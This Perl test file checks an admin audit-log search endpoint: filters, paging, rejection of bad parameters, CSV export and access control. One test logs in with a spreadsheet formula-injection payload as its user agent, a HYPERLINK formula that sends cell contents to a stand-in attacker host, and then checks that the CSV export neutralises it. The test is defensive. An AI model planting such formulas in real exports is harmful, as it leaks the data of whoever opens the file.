#!/usr/bin/perl
# GET /api/v1/admin/audit: the filters actor, action, target, from and
# to, cursor paging newest first, and ?format=csv as an attachment in
# which a cell that a spreadsheet would run as a formula starts with a
# single quote.  Each search is audited; only admins with an
# MFA-verified session may search.

use v5.36;
use FindBin;
use lib "$FindBin::Bin/lib";
use SSCN::Test;
use SSCN::Incidents;
use Test::More;

require_stack();

my $admin = mfa_admin();
my $user = verified_user() or BAIL_OUT('cannot create a user');
my $user_id = user_id_of($user->{email});

# A login through the FastCGI socket with a formula as its user agent:
# the audit row of the login stores it as the client sent it.
my $formula = q{=HYPERLINK("http://attacker.invalid/?"&A1,"Open")};
my $login = api('POST', '/api/v1/auth/login', addr => '127.0.0.1',
    headers => ['User-Agent' => $formula],
    json => { email => $user->{email}, password => $user->{password} });
is($login->{status}, 200, 'login with a formula user agent');
for (1 .. 2) {
	is(login_user($user)->{status}, 200, "login $_ as the user");
}
my $user_rows = psql_value("SELECT count(*) FROM sscn.audit_log "
    . "WHERE actor_id = '$user_id'");
ok($user_rows >= 3, 'the user has audit rows');

sub search ($query, %opt) {
	return api('GET', "/api/v1/admin/audit$query", token => $admin->{token},
	    %opt);
}

# ---- JSON and filters ----------------------------------------------------------------------

my $page = is_json_ok(search("?actor=$user_id"), 200, 'search by actor');
is(scalar @{ $page->{items} }, $user_rows, 'actor: every row of the user');
ok(!(grep { ($_->{actor_id} // '') ne $user_id } @{ $page->{items} }),
    'actor: only rows of the user');
is_deeply([sort keys %{ $page->{items}[0] // {} }],
    [sort qw(id occurred_at actor_id organization_id address user_agent action
	target result request_id details)], 'search: item keys');
my @ids = map { $_->{id} } @{ $page->{items} };
is_deeply(\@ids, [sort { $b <=> $a } @ids], 'search: newest first');

$page = is_json_ok(search("?actor=$user_id&action=auth.login"), 200,
    'search by actor and action');
ok(@{ $page->{items} } >= 3 && !(grep { $_->{action} ne 'auth.login' }
    @{ $page->{items} }), 'action: only auth.login rows');

my $incident = create_incident($admin, incident_body(1))->{json}{id} // '';
my $by_target = is_json_ok(search("?target=$incident"), 200, 'search by target');
is_deeply([map { $_->{action} } @{ $by_target->{items} }], ['incident.create'],
    'target: the one row of that target');

my $newest = $page->{items}[0]{occurred_at};
my ($second) = $newest =~ /^(.{19})/;
$page = is_json_ok(search("?actor=$user_id&from=${second}Z"), 200,
    'search from a time');
ok(!(grep { substr($_->{occurred_at}, 0, 19) lt $second } @{ $page->{items} }),
    'from: no older row');
$page = is_json_ok(search("?actor=$user_id&to=2000-01-01T00:00:00Z"), 200,
    'search up to the year 2000');
is(scalar @{ $page->{items} }, 0, 'to: no row before 2000');

# ---- paging --------------------------------------------------------------------------------

my (@paged, $cursor);
for (1 .. 20) {
	my $query = "?actor=$user_id&limit=1"
	    . (defined $cursor ? "&cursor=$cursor" : '');
	my $one = is_json_ok(search($query), 200, 'search page of one') or last;
	push @paged, map { $_->{id} } @{ $one->{items} };
	$cursor = $one->{next_cursor};
	last unless defined $cursor;
}
is(scalar @paged, $user_rows, 'paging: every row once');
is_deeply(\@paged, [sort { $b <=> $a } @paged], 'paging: newest first');

# ---- bad parameters ------------------------------------------------------------------------

my $audit_before = psql_value('SELECT count(*) FROM sscn.audit_log');
for my $case (['?actor=someone', 'actor'], ['?action=DROP%20TABLE', 'action'],
    ['?from=yesterday', 'from'], ['?to=2026-13-01T00:00:00Z', 'to'],
    ['?limit=0', 'limit'], ['?limit=101', 'limit'], ['?cursor=!!', 'cursor'],
    ['?cursor=MA', 'cursor'], ['?format=xml', 'format']) {
	my ($query, $field) = @$case;
	my $err = is_error_response(search($query), 400, 'validation_failed',
	    "search with $query");
	ok(exists $err->{error}{fields}{$field}, "search with $query: fields.$field");
}
is(psql_value('SELECT count(*) FROM sscn.audit_log'), $audit_before,
    'rejected searches wrote no audit row');

# ---- CSV -------------------------------------------------------------------------------------

my $res = search("?actor=$user_id&format=csv");
is($res->{status}, 200, 'CSV export: 200');
like(header($res, 'Content-Type') // '', qr{^text/csv; charset=utf-8$},
    'CSV export: text/csv');
like(header($res, 'Content-Disposition') // '', qr/^attachment; filename="sscn-audit\.csv"$/,
    'CSV export: an attachment');
my @lines = split /\r\n/, $res->{body};
is($lines[0], 'id,occurred_at,actor_id,organization_id,address,user_agent,'
    . 'action,target,result,request_id,details', 'CSV export: header row');
is(scalar @lines, $user_rows + 1, 'CSV export: one line per row');
my $escaped = q{"'} . ($formula =~ s/"/""/gr) . q{"};
my @formula_lines = grep { index($_, $escaped) >= 0 } @lines;
ok(scalar @formula_lines >= 1, 'CSV export: formula cell neutralised and quoted');
ok(!(grep { /(^|,)"?=/ } @lines), 'CSV export: no cell starts with =');
like($res->{body}, qr/\r\n$/, 'CSV export: rows end with CRLF');

$res = search("?actor=$user_id&format=csv&limit=1");
is($res->{status}, 200, 'CSV export of one row');
my $next = header($res, 'X-Next-Cursor');
ok(defined $next, 'CSV export: X-Next-Cursor when more rows follow');
is(scalar(split /\r\n/, $res->{body}), 2, 'CSV export: header and one row');
$res = search("?actor=$user_id&format=csv&limit=1&cursor=$next");
is($res->{status}, 200, 'CSV export: next page by cursor');
is_error_response(search('?format=csv&limit=10001'), 400, 'validation_failed',
    'CSV export above 10000 rows');

# ---- the search is audited; guards -------------------------------------------------------

$res = search("?actor=$user_id&action=auth.login");
my @rows = audit_rows(header($res, 'X-Request-ID'));
is(scalar @rows, 1, 'search: one audit row');
is($rows[0]{action}, 'admin.audit_search', 'search audit: action');
is_deeply([sort @{ $rows[0]{details}{filters} // [] }], [qw(action actor)],
    'search audit: names the filters');
unlike(join(' ', map { ref $_ ? '' : $_ } values %{ $rows[0]{details} // {} }),
    qr/\Q$user_id\E/, 'search audit: no filter values');

my $user_token = login_user($user)->{token};
is_error_response(api('GET', '/api/v1/admin/audit', token => $user_token), 403,
    'forbidden', 'search by a non-admin');
is_error_response(api('GET', '/api/v1/admin/audit'), 401, 'unauthorized',
    'search without a token');

done_testing();
